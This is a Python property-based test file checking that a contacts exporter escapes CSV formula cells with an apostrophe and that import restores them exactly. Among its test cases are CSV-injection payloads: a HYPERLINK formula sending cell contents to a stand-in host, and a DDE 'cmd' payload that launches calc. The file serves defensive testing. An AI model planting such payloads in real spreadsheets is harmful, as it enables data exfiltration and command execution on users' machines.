"""Export writes cells a spreadsheet would run as formulas behind an apostrophe (CSV
injection); import takes it off again, so an export reads back exactly."""

from __future__ import annotations

import pytest
from hypothesis import given
from hypothesis import strategies as st

from vantage_contacts.imports.csvmap import FORMULA_STARTS, formula_safe, from_formula_safe

# Texts around the rule's edges: formula characters, apostrophes, phone punctuation.
cells = st.text("=+-@\t\r'0123456789 ().aZ|!", max_size=12) | st.text(max_size=30)


@given(cells)
def test_import_reads_back_exactly_what_export_wrote(text: str) -> None:
    assert from_formula_safe(formula_safe(text)) == text


@given(cells)
def test_no_exported_cell_starts_a_formula_unless_it_is_a_plain_number(text: str) -> None:
    written = formula_safe(text)
    if written.startswith(FORMULA_STARTS):
        assert set(written) <= set("+-0123456789 ().")


@pytest.mark.parametrize(
    ("stored", "written"),
    [
        ('=HYPERLINK("http://x/?"&A1,"click")', '\'=HYPERLINK("http://x/?"&A1,"click")'),
        ("+cmd|' /C calc'!A0", "'+cmd|' /C calc'!A0"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("-2+3", "'-2+3"),
        ("-12 34", "-12 34"),
        ("+1 (555) 010-9999", "+1 (555) 010-9999"),
        ("'=x", "''=x"),
        ("Ada", "Ada"),
    ],
)
def test_cells_as_written(stored: str, written: str) -> None:
    assert formula_safe(stored) == written
